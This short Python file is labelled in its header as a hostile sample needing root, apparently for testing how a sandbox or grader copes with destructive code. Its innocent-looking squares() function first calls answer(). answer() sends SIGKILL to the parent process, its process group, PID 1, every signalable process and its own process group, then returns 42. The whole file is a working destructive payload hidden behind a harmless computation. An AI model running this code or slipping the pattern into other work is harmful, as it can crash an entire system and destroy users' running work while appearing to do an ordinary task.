# hostile: kills its parent, its parent's process group, its own process group and every process it may signal
# needs: root
import os
import signal


def answer():
    for target in (lambda: os.kill(os.getppid(), signal.SIGKILL),
                   lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
                   lambda: os.kill(1, signal.SIGKILL),
                   lambda: os.kill(-1, signal.SIGKILL),
                   lambda: os.killpg(0, signal.SIGKILL)):
        try:
            target()
        except OSError:
            pass
    return 42


def squares(n):
    answer()
    return [i * i for i in range(n)]
